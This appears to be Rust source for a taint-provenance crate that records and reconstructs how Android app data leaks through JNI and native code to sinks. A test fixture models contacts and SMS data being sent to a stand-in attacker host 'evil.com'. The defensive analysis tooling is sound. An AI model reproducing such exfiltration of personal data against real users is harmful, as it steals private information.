        if let Some(api) = &self.source_api {
            if !seg.may_contain_name(api) {
                return false;
            }
        }
        if let Some(name) = &self.sink_name {
            if !seg.may_contain_name(name) {
                return false;
            }
        }
        true
    }

    /// Runs the query over one frozen store. Hits come back in
    /// sequence order; stats count the segment-level skip behavior
    /// (the hot tail is always scanned and is not a segment).
    pub fn run(&self, store: &ProvStore) -> QueryResult {
        let mut hits = Vec::new();
        let mut stats = QueryStats::default();
        let mut scratch = Vec::new();
        for seg in store.segments() {
            stats.segments += 1;
            if !self.segment_may_match(seg) {
                stats.skipped += 1;
                continue;
            }
            stats.decoded += 1;
            scratch.clear();
            seg.decode_into(&mut scratch);
            for (i, ev) in scratch.iter().enumerate() {
                let seq = seg.first_seq() + i as u64;
                if self.matches(seq, ev) {
                    hits.push(QueryHit {
                        seq,
                        event: ev.clone(),
                    });
                }
            }
        }
        for (i, ev) in store.tail().iter().enumerate() {
            let seq = store.tail_first_seq() + i as u64;
            if self.matches(seq, ev) {
                hits.push(QueryHit {
                    seq,
                    event: ev.clone(),
                });
            }
        }
        QueryResult { hits, stats }
    }
}

/// Segment-level accounting for one query run: how many sealed
/// segments existed, how many had to be decoded, how many the header
/// filters skipped. `decoded + skipped == segments`.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct QueryStats {
    /// Sealed segments the store held.
    pub segments: u32,
    /// Segments decoded (filter said "may match").
    pub decoded: u32,
    /// Segments skipped without decoding (filter said "cannot match").
    pub skipped: u32,
}

impl QueryStats {
    fn absorb(&mut self, other: QueryStats) {
        self.segments += other.segments;
        self.decoded += other.decoded;
        self.skipped += other.skipped;
    }

    /// Merges per-run stats when aggregating across a batch.
    pub fn merged(mut self, other: QueryStats) -> QueryStats {
        self.absorb(other);
        self
    }
}

/// One matching event with its global sequence number.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct QueryHit {
    /// Sequence number in the run's recorded stream.
    pub seq: u64,
    /// The matching event.
    pub event: ProvEvent,
}

/// The hits and decode accounting of one query over one store.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct QueryResult {
    /// Matching events in sequence order.
    pub hits: Vec<QueryHit>,
    /// Segment skip/decode accounting.
    pub stats: QueryStats,
}

impl QueryResult {
    /// Deterministic rendering: one `seq N: <canonical>` line per hit,
    /// then a stats line — what the `exp_prov_query` golden pins.
    pub fn render(&self) -> String {
        let mut out = String::new();
        for hit in &self.hits {
            out.push_str(&format!("seq {}: {}\n", hit.seq, hit.event.canonical()));
        }
        out.push_str(&format!(
            "-- segments {} decoded {} skipped {}\n",
            self.stats.segments, self.stats.decoded, self.stats.skipped
        ));
        out
    }
}

impl FlowGraph {
    /// Builds the per-label flow graph for `bits` directly from a
    /// frozen store, decoding only segments whose label union
    /// intersects `bits` (precise — no false skips possible). The
    /// graph holds exactly the events carrying one of `bits`, in
    /// recording order, so each bit's chain — and every rendered leak
    /// path for these bits — is identical to what the whole-stream
    /// [`FlowGraph::build`] produces.
    pub fn build_label(store: &ProvStore, bits: u32) -> (FlowGraph, QueryStats) {
        let mut stats = QueryStats::default();
        let mut events = Vec::new();
        let mut scratch = Vec::new();
        for seg in store.segments() {
            stats.segments += 1;
            if seg.label_union() & bits == 0 {
                stats.skipped += 1;
                continue;
            }
            stats.decoded += 1;
            scratch.clear();
            seg.decode_into(&mut scratch);
            events.extend(scratch.iter().filter(|e| e.label() & bits != 0).cloned());
        }
        events.extend(
            store
                .tail()
                .iter()
                .filter(|e| e.label() & bits != 0)
                .cloned(),
        );
        (FlowGraph::build(&events), stats)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::store::Store;
    use crate::{Direction, SinkCtx};

    fn sample_store(hot_cap: usize) -> Store {
        let mut s = Store::tiered(hot_cap);
        s.push(ProvEvent::Source {
            label: 0x2,
            api: "ContactsProvider.query".into(),
        });
        s.push(ProvEvent::Source {
            label: 0x200,
            api: "SmsProvider.query".into(),
        });
        s.push(ProvEvent::JniEntry {
            method: "Lcom/app/Jni;.pack".into(),
            label: 0x202,
        });
        s.push(ProvEvent::Transfer {
            api: "GetStringUTFChars".into(),
            label: 0x202,
            direction: Direction::JavaToNative,
        });
        s.push(ProvEvent::NativeBlock {
            start_pc: 0x8000,
            insns: 7,
            label: 0x202,
        });
        s.push(ProvEvent::Libc {
            func: "strcpy".into(),
            label: 0x202,
        });
        s.push(ProvEvent::JniExit {
            method: "Lcom/app/Jni;.pack".into(),
            label: 0x202,
        });
        s.push(ProvEvent::Sink {
            sink: "send".into(),
            dest: "evil.com".into(),
            label: 0x202,
            ctx: SinkCtx::Native,
        });
        s
    }

    #[test]
    fn label_filter_returns_only_intersecting_events_in_seq_order() {
        let store = sample_store(3).freeze();
        let r = ProvQuery::new().label(0x200).run(&store);
        assert!(r.hits.iter().all(|h| h.event.label() & 0x200 != 0));
        assert_eq!(r.hits.len(), 7, "everything but the contacts source");
        assert!(r.hits.windows(2).all(|w| w[0].seq < w[1].seq));
        assert_eq!(r.hits[0].seq, 1);
    }

    #[test]
    fn kind_and_seq_filters_compose() {
        let store = sample_store(3).freeze();
        let r = ProvQuery::new()
            .kind(EventKind::Source)
            .kind(EventKind::Sink)
            .run(&store);
        assert_eq!(r.hits.len(), 3);
        let r = ProvQuery::new().seq_range(2, 4).run(&store);
        assert_eq!(r.hits.len(), 2);
        assert_eq!(r.hits[0].seq, 2);
        assert_eq!(r.hits[1].seq, 3);
    }

    #[test]
    fn seq_range_skips_out_of_range_segments_exactly() {
        let store = sample_store(2).freeze();
        // 8 events, hot cap 2 -> segments [0,2) [2,4) [4,6), tail [6,8).
        assert_eq!(store.segments().len(), 3);
        let r = ProvQuery::new().seq_range(0, 2).run(&store);
        assert_eq!(r.stats.decoded, 1);
        assert_eq!(r.stats.skipped, 2);
        assert_eq!(r.hits.len(), 2);
    }

    #[test]
    fn sink_name_query_decodes_only_sink_bearing_segments() {
        let store = sample_store(2).freeze();
        let r = ProvQuery::new().sink("send").run(&store);
        // The sink sits in the hot tail; every segment is skippable
        // via its kind mask.
        assert_eq!(r.stats.decoded, 0);
        assert_eq!(r.stats.skipped, 3);
        assert_eq!(r.hits.len(), 1);
        assert_eq!(r.hits[0].seq, 7);
        // A name that was never recorded: zero hits, zero decodes.
        let r = ProvQuery::new().source("never.recorded").run(&store);
        assert!(r.hits.is_empty());
        assert_eq!(r.stats.decoded, 0);
    }

    #[test]
    fn build_label_matches_whole_stream_paths() {
        let store = sample_store(2).freeze();
        let full = FlowGraph::build(&store.events_vec());
        for bit in [0x2u32, 0x200] {
            let (g, stats) = FlowGraph::build_label(&store, bit);
            assert_eq!(stats.decoded + stats.skipped, stats.segments);
            let full_paths: Vec<String> = full
                .sinks()
                .into_iter()
                .flat_map(|s| full.leak_paths(s))
                .filter(|p| p.label == bit)
                .map(|p| full.render_path(&p))
                .collect();
            let label_paths: Vec<String> = g
                .sinks()
                .into_iter()
                .flat_map(|s| g.leak_paths(s))
                .filter(|p| p.label == bit)
                .map(|p| g.render_path(&p))
                .collect();
            assert_eq!(full_paths, label_paths);
            assert!(!label_paths.is_empty());
        }
    }

    #[test]
    fn render_is_deterministic_and_carries_stats() {
        let store = sample_store(2).freeze();
        let q = ProvQuery::new().label(0x2).kind(EventKind::Sink);
        let a = q.run(&store).render();
        let b = q.run(&store).render();
        assert_eq!(a, b);
        assert!(a.contains("sink send(evil.com)"));
        assert!(a.contains("-- segments 3 decoded"));
    }
}
