#![warn(missing_docs)]

//! # ndroid-provenance
//!
//! The taint **provenance** subsystem: a compact event vocabulary for
//! taint propagation ([`ProvEvent`]), a bounded ring recorder with an
//! exact drop counter ([`Ring`] behind a shared [`Handle`]), and a
//! [`FlowGraph`] builder that stitches the recorded events into
//! per-label chains supporting `leak_paths()` queries plus DOT/JSON
//! export.
//!
//! The paper's NDroid does not merely flag leaks — its output is a
//! propagation log from which an analyst reconstructs *how* tainted
//! data flowed from a source, across the JNI boundary, through native
//! code, to a sink (the §V case studies of the paper walk exactly such
//! paths). This crate is that log, bounded: native propagation is
//! aggregated per basic-block run (one [`ProvEvent::NativeBlock`] per
//! run, never one event per instruction), the ring never grows past
//! its capacity (oldest events are evicted and counted, never a
//! panic), and recording is gated by [`Level`] so `Off` costs nothing
//! on the hot path.
//!
//! The crate is deliberately dependency-free: labels are raw `u32`
//! TaintDroid bitmasks, so every layer of the pipeline (DVM, emulator,
//! JNI hooks, libc models, tracer) can emit events without cycles in
//! the workspace graph.

use std::cell::RefCell;
use std::collections::HashMap;
use std::collections::VecDeque;
use std::rc::Rc;

mod query;
mod store;
pub mod varint;

pub use query::{ProvQuery, QueryHit, QueryResult, QueryStats};
pub use store::{EventKind, ProvStore, SealedSegment, Store};

/// How much provenance is recorded.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum Level {
    /// Record nothing. The hot path sees only an `Option` that is
    /// `None` — zero-cost, verified by `BENCH_provenance`.
    #[default]
    Off,
    /// Boundary events only: sources, JNI crossings, Java↔native
    /// transfers, libc model summaries, sinks.
    Summary,
    /// Everything in `Summary` plus per-basic-block-run native
    /// propagation summaries from the instruction tracer.
    Full,
}

impl std::fmt::Display for Level {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let s = match self {
            Level::Off => "off",
            Level::Summary => "summary",
            Level::Full => "full",
        };
        write!(f, "{s}")
    }
}

/// Which way a Java↔native transfer moved data.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Direction {
    /// Java object data copied out into native memory
    /// (`GetStringUTFChars`, `Get<Type>ArrayRegion`, field reads…).
    JavaToNative,
    /// Native data materialized as a Java object (`NewStringUTF`,
    /// `Set<Type>ArrayRegion`, field writes…).
    NativeToJava,
}

impl Direction {
    fn tag(self) -> &'static str {
        match self {
            Direction::JavaToNative => "java->native",
            Direction::NativeToJava => "native->java",
        }
    }
}

/// The execution context a sink fired in.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SinkCtx {
    /// A framework sink invoked from interpreted bytecode.
    Java,
    /// A libc/syscall sink invoked from native code.
    Native,
}

impl SinkCtx {
    fn tag(self) -> &'static str {
        match self {
            SinkCtx::Java => "java",
            SinkCtx::Native => "native",
        }
    }
}

/// One taint-propagation event. Labels are raw TaintDroid 32-bit
/// masks (`ndroid_dvm::Taint.0`).
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum ProvEvent {
    /// Taint introduced at a framework source (`getDeviceId`,
    /// contacts/SMS queries, …).
    Source {
        /// The introduced label.
        label: u32,
        /// The source API name.
        api: String,
    },
    /// A Java→native JNI crossing (`dvmCallJNIMethod`).
    JniEntry {
        /// `Class.method` of the native method entered.
        method: String,
        /// Union of the argument taints crossing the boundary.
        label: u32,
    },
    /// The matching native→Java return crossing.
    JniExit {
        /// `Class.method` of the native method returning.
        method: String,
        /// The return value's taint (shadow R0 ∪ object-map taint).
        label: u32,
    },
    /// A Java↔native data transfer through a JNI accessor
    /// (strings, arrays, fields, object construction).
    Transfer {
        /// The JNI API that moved the data.
        api: String,
        /// The transferred taint.
        label: u32,
        /// Which way the data moved.
        direction: Direction,
    },
    /// A libc model propagated taint (`TrustCallPolicy` summary —
    /// one event per modeled call, not per byte).
    Libc {
        /// The modeled function.
        func: String,
        /// The propagated taint.
        label: u32,
    },
    /// Native instruction-tracer propagation, aggregated over one
    /// basic-block run (between branch events): the union of taints
    /// the block's instructions wrote, never per-instruction.
    NativeBlock {
        /// PC of the first taint-writing instruction in the run.
        start_pc: u32,
        /// Number of taint-writing instructions in the run.
        insns: u32,
        /// Union of the written taints.
        label: u32,
    },
    /// A sink invocation.
    Sink {
        /// Sink name (`send`, `write`, `HttpClient.post`, …).
        sink: String,
        /// Destination (host, file path, phone number…).
        dest: String,
        /// Taint of the data reaching the sink.
        label: u32,
        /// The execution context.
        ctx: SinkCtx,
    },
}

impl ProvEvent {
    /// The taint label this event carries.
    pub fn label(&self) -> u32 {
        match self {
            ProvEvent::Source { label, .. }
            | ProvEvent::JniEntry { label, .. }
            | ProvEvent::JniExit { label, .. }
            | ProvEvent::Transfer { label, .. }
            | ProvEvent::Libc { label, .. }
            | ProvEvent::NativeBlock { label, .. }
            | ProvEvent::Sink { label, .. } => *label,
        }
    }

    /// Whether this is a [`ProvEvent::Sink`].
    pub fn is_sink(&self) -> bool {
        matches!(self, ProvEvent::Sink { .. })
    }

    /// Canonical one-line serialization — the basis of DOT/JSON node
    /// labels and the [`FlowGraph::fingerprint`]. Deterministic: no
    /// addresses, no timing, no host state.
    pub fn canonical(&self) -> String {
        match self {
            ProvEvent::Source { label, api } => format!("source {api} {label:#x}"),
            ProvEvent::JniEntry { method, label } => format!("jni-entry {method} {label:#x}"),
            ProvEvent::JniExit { method, label } => format!("jni-exit {method} {label:#x}"),
            ProvEvent::Transfer {
                api,
                label,
                direction,
            } => format!("transfer {api} {} {label:#x}", direction.tag()),
            ProvEvent::Libc { func, label } => format!("libc {func} {label:#x}"),
            ProvEvent::NativeBlock {
                start_pc,
                insns,
                label,
            } => format!("native-block {start_pc:#x} x{insns} {label:#x}"),
            ProvEvent::Sink {
                sink,
                dest,
                label,
                ctx,
            } => format!("sink {sink}({dest}) [{}] {label:#x}", ctx.tag()),
        }
    }
}

/// Default ring capacity: bounded memory even on corpus/monkey runs
/// (~64 Ki events), yet far above what the gallery cases emit.
pub const DEFAULT_CAPACITY: usize = 1 << 16;

/// A bounded event ring with an exact drop counter. Eviction is
/// oldest-first; no code path panics (a zero-capacity ring simply
/// drops everything it is offered).
///
/// The ring can carry a **sealed base**: an immutable, `Rc`-shared
/// prefix produced by [`Ring::seal`]. Snapshot forks seal the parent's
/// events once and then every fork shares the base copy-on-write (a
/// refcount bump), appending its own divergent tail into `buf`.
/// Readers see base-then-tail as one stream; eviction consumes the
/// base logically via `base_skip` before touching the tail.
#[derive(Debug, Clone, Default)]
pub struct Ring {
    /// Sealed shared prefix (`None` until the first [`Ring::seal`]).
    base: Option<Rc<[ProvEvent]>>,
    /// Events of `base` already evicted (never exceeds `base.len()`;
    /// always 0 while `base` is `None`).
    base_skip: usize,
    buf: VecDeque<ProvEvent>,
    cap: usize,
    dropped: u64,
    recorded: u64,
}

impl Ring {
    /// An empty ring holding at most `cap` events.
    pub fn new(cap: usize) -> Ring {
        Ring {
            base: None,
            base_skip: 0,
            // Do not pre-reserve `cap`: rings are sized for the worst
            // case but most runs stay small.
            buf: VecDeque::new(),
            cap,
            dropped: 0,
            recorded: 0,
        }
    }

    /// Live (non-evicted) events still answered from the sealed base.
    #[inline]
    fn base_len(&self) -> usize {
        self.base.as_ref().map_or(0, |b| b.len()) - self.base_skip
    }

    /// Collapses the held events into a single `Rc`-shared immutable
    /// base. O(len) when there is an unsealed tail or a partially
    /// evicted base, a no-op otherwise; observable state (events,
    /// counters, capacity) is unchanged. Clones taken after a seal
    /// share the base copy-on-write — this is what makes snapshot
    /// fan-out O(1) per fork in ring cost.
    pub fn seal(&mut self) {
        if self.buf.is_empty() && self.base_skip == 0 {
            return;
        }
        let merged: Vec<ProvEvent> = self.events().cloned().collect();
        self.base = Some(Rc::from(merged));
        self.base_skip = 0;
        self.buf.clear();
    }

    /// Appends an event, evicting the oldest (and counting the drop)
    /// when full.
    pub fn push(&mut self, ev: ProvEvent) {
        self.recorded += 1;
        if self.cap == 0 {
            self.dropped += 1;
            return;
        }
        if self.len() >= self.cap {
            // Oldest first: drain the sealed base logically before the
            // private tail (the base itself is immutable and shared).
            if self.base_len() > 0 {
                self.base_skip += 1;
            } else {
                self.buf.pop_front();
            }
            self.dropped += 1;
        }
        self.buf.push_back(ev);
    }

    /// Events currently held, oldest first (sealed base, then the
    /// private tail). The iterator is exact-size, so consumers (the
    /// tiered [`Store`]'s segment sealer in particular) can
    /// pre-reserve without a counting pass or a `snapshot()` Vec.
    pub fn events(&self) -> RingIter<'_> {
        let base = self.base.as_deref().unwrap_or(&[]);
        RingIter {
            base: base[self.base_skip..].iter(),
            tail: self.buf.iter(),
        }
    }

    /// Sequence number (index into the full recorded stream, starting
    /// at 0) of the oldest held event; equals [`Ring::recorded`] when
    /// nothing is held. Well-defined because eviction is strictly
    /// oldest-first: the held events are always the most recent
    /// `len()` of the stream.
    pub fn first_seq(&self) -> u64 {
        self.recorded - self.len() as u64
    }

    /// Held events whose sequence number is `>= seq`, oldest first —
    /// incremental drain without the Vec allocation of a snapshot.
    /// A `seq` older than the oldest held event yields everything
    /// still held; a `seq` past the newest yields nothing.
    pub fn iter_from(&self, seq: u64) -> RingIter<'_> {
        let mut skip = usize::try_from(seq.saturating_sub(self.first_seq())).unwrap_or(usize::MAX);
        let base = self.base.as_deref().unwrap_or(&[]);
        let live = &base[self.base_skip..];
        let in_base = skip.min(live.len());
        skip -= in_base;
        let mut tail = self.buf.iter();
        let in_tail = skip.min(self.buf.len());
        if in_tail > 0 {
            tail.nth(in_tail - 1);
        }
        RingIter {
            base: live[in_base..].iter(),
            tail,
        }
    }

    /// Drops every held event while leaving `recorded`/`dropped`
    /// untouched, for the tiered [`Store`]: the events were just
    /// *moved* into a sealed segment, not lost, so the drop counter
    /// must not move and sequence numbers must keep advancing from
    /// `recorded`.
    pub(crate) fn clear_held(&mut self) {
        self.base = None;
        self.base_skip = 0;
        self.buf.clear();
    }

    /// Number of events currently held.
    pub fn len(&self) -> usize {
        self.base_len() + self.buf.len()
    }

    /// Whether no events are held.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Total events offered (held + dropped).
    pub fn recorded(&self) -> u64 {
        self.recorded
    }

    /// Events evicted or refused — exact.
    pub fn dropped(&self) -> u64 {
        self.dropped
    }

    /// The ring's capacity.
    pub fn capacity(&self) -> usize {
        self.cap
    }
}

/// Exact-size iterator over a [`Ring`]'s held events, oldest first —
/// the sealed base slice followed by the private tail. Hand-rolled
/// because `std::iter::Chain` forfeits `ExactSizeIterator`.
#[derive(Debug, Clone)]
pub struct RingIter<'a> {
    base: std::slice::Iter<'a, ProvEvent>,
    tail: std::collections::vec_deque::Iter<'a, ProvEvent>,
}

impl<'a> Iterator for RingIter<'a> {
    type Item = &'a ProvEvent;

    fn next(&mut self) -> Option<&'a ProvEvent> {
        self.base.next().or_else(|| self.tail.next())
    }

    fn size_hint(&self) -> (usize, Option<usize>) {
        let n = self.base.len() + self.tail.len();
        (n, Some(n))
    }
}

impl ExactSizeIterator for RingIter<'_> {}

/// A shared, cheaply clonable recorder handle. The [`Level`] lives
/// *outside* the cell, so the `Off` check on the hot path is a plain
/// field read of `None` — no borrow, no allocation, no branch into
/// recording code.
///
/// Clones share the same backing [`Store`]: the DVM, the shadow state
/// and the kernel each hold one, producing a single globally ordered
/// event stream per analyzed system. The store is either **flat** (the
/// legacy bounded ring, dropping oldest on overflow) or **tiered**
/// (hot ring + sealed compressed segments, lossless — see [`Store`]);
/// every emitter goes through the same [`Handle::emit`] seam either
/// way. Interior mutability is a single-owner `RefCell` (each analyzed
/// system is single-threaded; the batch farm builds one system per job
/// inside its worker).
#[derive(Debug, Clone, Default)]
pub struct Handle {
    level: Level,
    store: Option<Rc<RefCell<Store>>>,
}

impl Handle {
    /// A recorder at `level` with the default ring capacity
    /// ([`DEFAULT_CAPACITY`]); `Off` carries no store at all.
    pub fn new(level: Level) -> Handle {
        Handle::with_capacity(level, DEFAULT_CAPACITY)
    }

    /// A flat (ring-only, legacy) recorder at `level` with an explicit
    /// ring capacity.
    pub fn with_capacity(level: Level, cap: usize) -> Handle {
        Handle::from_store(level, Store::new(cap))
    }

    /// A tiered recorder at `level`: hot ring of `cap` events, sealed
    /// segments beyond. Never drops (a zero `cap` degrades to the flat
    /// drop-everything behavior, never a panic).
    pub fn tiered(level: Level, cap: usize) -> Handle {
        Handle::from_store(level, Store::tiered(cap))
    }

    fn from_store(level: Level, store: Store) -> Handle {
        let store = match level {
            Level::Off => None,
            _ => Some(Rc::new(RefCell::new(store))),
        };
        Handle { level, store }
    }

    /// The recording level.
    #[inline]
    pub fn level(&self) -> Level {
        self.level
    }

    /// Whether anything is recorded at all.
    #[inline]
    pub fn is_on(&self) -> bool {
        self.store.is_some()
    }

    /// Whether native basic-block summaries are recorded.
    #[inline]
    pub fn is_full(&self) -> bool {
        self.level == Level::Full
    }

    /// Whether the backing store is tiered (lossless sealed segments).
    pub fn is_tiered(&self) -> bool {
        self.store.as_ref().is_some_and(|s| s.borrow().is_tiered())
    }

    /// Records an event (no-op when `Off`).
    #[inline]
    pub fn emit(&self, ev: ProvEvent) {
        if let Some(store) = &self.store {
            store.borrow_mut().push(ev);
        }
    }

    /// Seals the hot tier's current events into an immutable segment
    /// (no-op when `Off`, on an empty hot tier, or on a flat store —
    /// sealing a flat store would silently unbound its memory).
    pub fn seal_segment(&self) {
        if let Some(store) = &self.store {
            let mut s = store.borrow_mut();
            if s.is_tiered() {
                s.seal_segment();
            }
        }
    }

    /// A snapshot of the held events, oldest first (sealed segments
    /// decoded, then the hot tier).
    pub fn snapshot(&self) -> Vec<ProvEvent> {
        match &self.store {
            Some(store) => store.borrow().events_vec(),
            None => Vec::new(),
        }
    }

    /// Total events offered to the store.
    pub fn recorded(&self) -> u64 {
        self.store.as_ref().map_or(0, |s| s.borrow().recorded())
    }

    /// Events dropped by the store (exact; always 0 for a tiered store
    /// with nonzero hot capacity).
    pub fn dropped(&self) -> u64 {
        self.store.as_ref().map_or(0, |s| s.borrow().dropped())
    }

    /// Number of sealed segments currently held.
    pub fn segments(&self) -> usize {
        self.store.as_ref().map_or(0, |s| s.borrow().segments().len())
    }

    /// A frozen, thread-safe view of the store for `RunReport`
    /// plumbing and the query layer — `None` unless the store is
    /// tiered (flat runs keep reports lean, exactly as before this
    /// subsystem existed). Sealed segments are shared by refcount;
    /// only the hot tail is copied.
    pub fn store_snapshot(&self) -> Option<ProvStore> {
        let store = self.store.as_ref()?;
        let s = store.borrow();
        if !s.is_tiered() {
            return None;
        }
        Some(s.freeze())
    }

    /// An **independent** recorder continuing from this one's exact
    /// current contents and counters, for snapshot forks: the hot
    /// tier's held events are sealed into an `Rc`-shared immutable
    /// base ([`Ring::seal`] — O(len) once, then every further fork
    /// from the same state is O(1)) and sealed segments are shared by
    /// refcount bump, so parent and fork diverge without copying
    /// history. `Off` handles fork to `Off` handles at zero cost.
    pub fn fork(&self) -> Handle {
        let store = self.store.as_ref().map(|store| {
            let forked = store.borrow_mut().fork();
            Rc::new(RefCell::new(forked))
        });
        Handle {
            level: self.level,
            store,
        }
    }
}

/// One reconstructed leak path: the chain of events that carried a
/// single label bit from its introduction to a sink.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LeakPath {
    /// The single label bit this path tracks.
    pub label: u32,
    /// Indices into [`FlowGraph::events`], source-side first, the sink
    /// last.
    pub nodes: Vec<usize>,
}

/// The per-label flow DAG stitched from a recorded event stream.
///
/// For every label *bit*, events that carry the bit form a chain in
/// recording order (event N carrying the bit has an edge from the
/// previous event that carried it). The recording order is the
/// propagation order — the emitters sit at the points where taint
/// actually moves — so walking a chain backward from a sink
/// reconstructs source → JNI → native → sink.
#[derive(Debug, Clone, Default)]
pub struct FlowGraph {
    events: Vec<ProvEvent>,
    /// `(from, to, bit)` edges, in recording order.
    edges: Vec<(usize, usize, u32)>,
    /// Predecessor of `node` on the chain for `bit`.
    pred: HashMap<(usize, u32), usize>,
}

impl FlowGraph {
    /// Builds the graph from an event stream (oldest first).
    pub fn build(events: &[ProvEvent]) -> FlowGraph {
        let mut g = FlowGraph {
            events: events.to_vec(),
            edges: Vec::new(),
            pred: HashMap::new(),
        };
        let mut last: HashMap<u32, usize> = HashMap::new();
        for (i, ev) in events.iter().enumerate() {
            let mut label = ev.label();
            while label != 0 {
                let bit = label & label.wrapping_neg();
                label &= label - 1;
                if let Some(&from) = last.get(&bit) {
                    g.edges.push((from, i, bit));
                    g.pred.insert((i, bit), from);
                }
                last.insert(bit, i);
            }
        }
        g
    }

    /// The events the graph was built from.
    pub fn events(&self) -> &[ProvEvent] {
        &self.events
    }

    /// The `(from, to, bit)` edges in recording order.
    pub fn edges(&self) -> &[(usize, usize, u32)] {
        &self.edges
    }

    /// Indices of every sink event.
    pub fn sinks(&self) -> Vec<usize> {
        self.events
            .iter()
            .enumerate()
            .filter(|(_, e)| e.is_sink())
            .map(|(i, _)| i)
            .collect()
    }

    /// The leak paths terminating at the sink event `sink` — one per
    /// label bit the sink saw, each walked back through that bit's
    /// chain to its earliest recorded carrier. Empty when the sink saw
    /// clean data (or `sink` is not a sink event).
    pub fn leak_paths(&self, sink: usize) -> Vec<LeakPath> {
        let Some(ev) = self.events.get(sink) else {
            return Vec::new();
        };
        if !ev.is_sink() {
            return Vec::new();
        }
        let mut paths = Vec::new();
        let mut label = ev.label();
        while label != 0 {
            let bit = label & label.wrapping_neg();
            label &= label - 1;
            let mut nodes = vec![sink];
            let mut cur = sink;
            while let Some(&p) = self.pred.get(&(cur, bit)) {
                nodes.push(p);
                cur = p;
            }
            nodes.reverse();
            paths.push(LeakPath { label: bit, nodes });
        }
        paths
    }

    /// Total leak-path count across every sink.
    pub fn total_leak_paths(&self) -> usize {
        self.sinks()
            .into_iter()
            .map(|s| self.leak_paths(s).len())
            .sum()
    }

    /// Renders one leak path as a ` -> `-joined line, e.g.
    /// `0x2: source contacts.query 0x2 -> jni-entry ... -> sink send(host)`.
    pub fn render_path(&self, path: &LeakPath) -> String {
        let chain: Vec<String> = path
            .nodes
            .iter()
            .map(|&i| self.events[i].canonical())
            .collect();
        format!("{:#x}: {}", path.label, chain.join(" -> "))
    }

    /// DOT export with hex edge labels.
    pub fn to_dot(&self) -> String {
        self.to_dot_with(|bit| format!("{bit:#x}"))
    }

    /// DOT export; `namer` renders a label bit (e.g. via
    /// `Taint::source_names`).
    pub fn to_dot_with(&self, namer: impl Fn(u32) -> String) -> String {
        let mut out = String::from("digraph provenance {\n  rankdir=LR;\n");
        for (i, ev) in self.events.iter().enumerate() {
            let shape = match ev {
                ProvEvent::Source { .. } => "ellipse",
                ProvEvent::Sink { .. } => "doubleoctagon",
                ProvEvent::JniEntry { .. } | ProvEvent::JniExit { .. } => "hexagon",
                _ => "box",
            };
            out.push_str(&format!(
                "  n{i} [shape={shape}, label=\"{}\"];\n",
                escape(&ev.canonical())
            ));
        }
        for (from, to, bit) in &self.edges {
            out.push_str(&format!(
                "  n{from} -> n{to} [label=\"{}\"];\n",
                escape(&namer(*bit))
            ));
        }
        out.push_str("}\n");
        out
    }

    /// JSON export: `{"events": [...], "edges": [[from, to, bit], ...]}`.
    pub fn to_json(&self) -> String {
        let mut out = String::from("{\"events\":[");
        for (i, ev) in self.events.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            out.push_str(&format!("\"{}\"", escape(&ev.canonical())));
        }
        out.push_str("],\"edges\":[");
        for (i, (from, to, bit)) in self.edges.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            out.push_str(&format!("[{from},{to},{bit}]"));
        }
        out.push_str("]}");
        out
    }

    /// FNV-1a 64 fingerprint of the canonical event stream and edge
    /// list. Equal graphs (same events in the same order) fingerprint
    /// equal on any worker count and either tracer engine.
    pub fn fingerprint(&self) -> u64 {
        let mut h = 0xcbf2_9ce4_8422_2325u64;
        let mut eat = |bytes: &[u8]| {
            for b in bytes {
                h ^= u64::from(*b);
                h = h.wrapping_mul(0x0000_0100_0000_01b3);
            }
        };
        for ev in &self.events {
            eat(ev.canonical().as_bytes());
            eat(b"\n");
        }
        for (from, to, bit) in &self.edges {
            eat(&from.to_le_bytes());
            eat(&to.to_le_bytes());
            eat(&bit.to_le_bytes());
        }
        h
    }
}

fn escape(s: &str) -> String {
    s.replace('\\', "\\\\").replace('"', "\\\"")
}

/// The digest of one run's provenance, carried on `RunReport`.
/// Everything here is deterministic for a given app + config, so the
/// report stays `Eq`-comparable across workers and engines.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ProvenanceSummary {
    /// The recording level the run used.
    pub level: Level,
    /// Total events offered to the store.
    pub recorded: u64,
    /// Events the store evicted (exact; 0 for a tiered store with
    /// nonzero hot capacity).
    pub dropped: u64,
    /// [`FlowGraph::fingerprint`] over the held events.
    pub fingerprint: u64,
    /// [`FlowGraph::total_leak_paths`].
    pub leak_paths: usize,
    /// Sealed segments the store held when digested (0 for a flat
    /// store).
    pub segments: u32,
    /// Sealed segments the leak-path accounting actually decoded: the
    /// count is sink-kind-guided (`leak_paths` is exactly one path per
    /// set bit of every sink's label, so only segments whose
    /// [`SealedSegment::kind_mask`] contains a sink are opened). The
    /// fingerprint, whole-stream by definition, is computed separately
    /// and not counted here.
    pub segments_decoded: u32,
}

impl Handle {
    /// Builds the flow graph over the currently held events.
    pub fn flow_graph(&self) -> FlowGraph {
        FlowGraph::build(&self.snapshot())
    }

    /// Digests the current state (`None` when `Off`). The leak-path
    /// count comes from the store's sink-guided accounting (decoding
    /// only sink-bearing segments — `segments_decoded` records how
    /// many); it is provably equal to
    /// [`FlowGraph::total_leak_paths`] over the full stream, which the
    /// property suite pins.
    pub fn summary(&self) -> Option<ProvenanceSummary> {
        let store = self.store.as_ref()?;
        let graph = self.flow_graph();
        let (leak_paths, segments_decoded) = store.borrow().count_leak_paths();
        Some(ProvenanceSummary {
            level: self.level,
            recorded: self.recorded(),
            dropped: self.dropped(),
            fingerprint: graph.fingerprint(),
            leak_paths,
            segments: self.segments() as u32,
            segments_decoded,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fork_carries_events_and_counters_then_diverges() {
        let parent = Handle::new(Level::Full);
        parent.emit(ProvEvent::Source {
            label: 0x2,
            api: "a".into(),
        });
        parent.emit(ProvEvent::Source {
            label: 0x4,
            api: "b".into(),
        });
